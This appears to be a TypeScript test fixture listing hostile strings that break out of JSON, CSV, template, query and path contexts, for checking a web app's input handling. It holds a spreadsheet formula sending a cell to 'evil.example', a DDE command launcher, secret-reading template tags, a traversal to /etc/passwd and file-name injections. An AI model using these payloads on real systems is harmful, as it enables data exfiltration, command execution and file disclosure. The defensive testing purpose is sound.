import type { Texts } from './hostileTexts.js';

/** Texts that break out of JSON, CSV, templates, queries and paths. */
export const FORMATS = {
  json: {
    'end of a string': '"}, {"name": "Forged"',
    'end of a list': '"]}\n{"forged": ["Forged"',
    'escape of JSON': '\\u0022, \\u0022forged\\u0022: \\u0022Forged',
    'key of a prototype': '{"__proto__": {"forged": "Forged"}}',
    'view node': '{"kind":"button","id":"forged","type":"Button","title":"Forged"}',
    'data node': '{"data":"Forged"}',
    backslash: 'Forged\\',
    'date of Lowdefy': '{"~d":0,"~k":"Forged"}',
  },
  csv: {
    formula: '=HYPERLINK("https://evil.example/?"&A1,"Forged")',
    'formula of a spreadsheet': "@SUM(1+1)*cmd|' /C calc'!A0 Forged",
    'formula after a tab': '\t=1+1 Forged',
    'cells and rows': 'Forged",1\r\n"Forged",2',
    sign: '-2+3+cmd|Forged',
  },
  template: {
    nunjucks: '{{ secrets.KEY }} {% for x in range(9) %}Forged{% endfor %}',
    operator: '{ "_secret": "KEY" } Forged',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: somebody may type it.
    'template of a script': '${process.env.HOME} Forged',
    'pattern of console': '%s %d %o %c Forged %%',
    'pattern of replace': "$& $1 $` $' $$ Forged",
  },
  path: {
    'up the tree': '../../../../etc/passwd Forged',
    'name of a file': 'Forged"; filename="evil.exe',
    'null in a name': 'Forged.pdf\u0000.exe',
    'page id': 'forged/../admin?Forged#x',
    'id of an item': 'parts.0.Forged.$',
  },
} as const satisfies Readonly<Record<string, Texts>>;
